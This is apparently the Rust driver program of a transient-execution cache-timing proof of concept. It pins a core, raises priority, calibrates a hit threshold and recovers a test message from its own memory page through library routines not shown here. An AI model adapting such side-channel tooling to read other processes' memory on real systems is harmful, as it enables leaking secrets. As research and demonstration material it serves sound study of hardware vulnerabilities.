use clap::Parser;

use cache_timing::calibration::calibrate_hit_threshold;
use cache_timing::mmap::MMappedMemory;
use transient_read::sched::{lower_priority, pin_to_core, raise_priority, restore_affinity};
use transient_read::{
    CacheOracle, CalibrationConfig, Confidence, HardwareChannel, RecoveredByte, RecoveryLoop,
    SetupError,
};

const PAGE_SIZE: usize = 1 << 12;

/// Recover bytes from a victim buffer through the transient-execution
/// cache timing channel.
#[derive(Parser, Debug)]
#[command(version, about)]
struct Args {
    /// Message placed in the victim buffer.
    #[arg(
        long,
        default_value = "Test string, read this, bla bla, any errors? Text text text."
    )]
    message: String,

    /// Number of bytes to recover (defaults to the message length).
    #[arg(long)]
    len: Option<usize>,

    /// Hit threshold override, in cycles.
    #[arg(long)]
    threshold: Option<u64>,

    /// log2 of the stride between probe regions, in bytes.
    #[arg(long)]
    stride_bits: Option<u32>,

    /// Inconclusive rounds tolerated per byte before the fallback guess.
    #[arg(long)]
    retries: Option<u32>,

    /// Measure the hit threshold on this machine instead of using the
    /// configured value.
    #[arg(long)]
    calibrate: bool,

    /// Logical core to pin to.
    #[arg(long, default_value_t = 0)]
    core: usize,

    /// Skip real-time scheduling (works without CAP_SYS_NICE, noisier).
    #[arg(long)]
    no_rt: bool,
}

fn run(args: &Args) -> Result<(), SetupError> {
    let mut config = CalibrationConfig::default();
    if let Some(bits) = args.stride_bits {
        config.stride_bits = bits;
    }
    if let Some(threshold) = args.threshold {
        config.hit_threshold = threshold;
    }
    if let Some(retries) = args.retries {
        config.max_inconclusive_retries = retries;
    }
    config.validate()?;

    let old_affinity = pin_to_core(args.core)?;
    if !args.no_rt {
        raise_priority()?;
    }

    // The victim page stays architecturally readable; recovery still only
    // goes through the transient path.
    let mut victim = MMappedMemory::new(PAGE_SIZE).map_err(SetupError::VictimAllocation)?;
    let message = args.message.as_bytes();
    let copy_len = message.len().min(PAGE_SIZE);
    victim.slice_mut()[..copy_len].copy_from_slice(&message[..copy_len]);
    let len = args.len.unwrap_or(copy_len).min(PAGE_SIZE);

    if args.calibrate {
        let threshold = calibrate_hit_threshold(victim.slice());
        eprintln!("calibrated hit threshold: {} cycles", threshold);
        config.hit_threshold = threshold;
        config.validate()?;
    }

    let channel = HardwareChannel::new(&config)?;
    let oracle = CacheOracle::new(config, channel)?;
    let mut recovery = RecoveryLoop::new(oracle);

    let recovered = unsafe { recovery.recover(victim.ptr(), 0..len) };

    if !args.no_rt {
        lower_priority()?;
    }
    restore_affinity(&old_affinity)?;

    report(&victim.slice()[..len], &recovered);
    Ok(())
}

fn report(original: &[u8], recovered: &[RecoveredByte]) {
    println!("original : {}", printable(original.iter().copied()));
    println!("recovered: {}", printable(recovered.iter().map(|b| b.value)));
    let markers: String = recovered
        .iter()
        .map(|b| match b.confidence {
            Confidence::High => ' ',
            Confidence::Low => '?',
        })
        .collect();
    println!("           {}", markers);

    let suspect = recovered.iter().filter(|b| b.is_suspect()).count();
    println!("{} bytes recovered, {} low confidence", recovered.len(), suspect);
}

fn printable(bytes: impl Iterator<Item = u8>) -> String {
    bytes
        .map(|b| if (0x20..0x7f).contains(&b) { b as char } else { '.' })
        .collect()
}

fn main() {
    let args = Args::parse();
    if let Err(e) = run(&args) {
        eprintln!("setup failed: {}", e);
        std::process::exit(1);
    }
}
